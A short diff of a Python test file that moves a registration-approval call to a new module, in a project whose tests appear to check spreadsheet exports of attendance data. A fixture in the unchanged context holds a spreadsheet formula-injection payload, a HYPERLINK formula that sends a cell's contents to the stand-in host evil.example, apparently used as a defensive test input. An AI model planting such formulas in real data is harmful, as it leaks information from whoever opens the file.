@@ -14,6 +14,7 @@ from tests.conftest import end_unit_of_work, log_in
 from tests.trio_helpers import trio
 from wijkwerk.accounts.services import create_api_token
 from wijkwerk.attendance.exports import spreadsheet_text
+from wijkwerk.registrations import approval
 from wijkwerk.werkplaatsen import services as trios
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'
@@ -55,7 +56,7 @@ def series(db):
     body = trio("GM0606")
     body["members"][0]["name"] = EVIL_NAME
     body["members"][1]["name"] = EVIL_WIJK_NAME
-    trios.approve(trios.register_trio(programme, body).registration)
+    approval.approve(trios.register_trio(programme, body).registration)
     end_unit_of_work()
     return programme
 
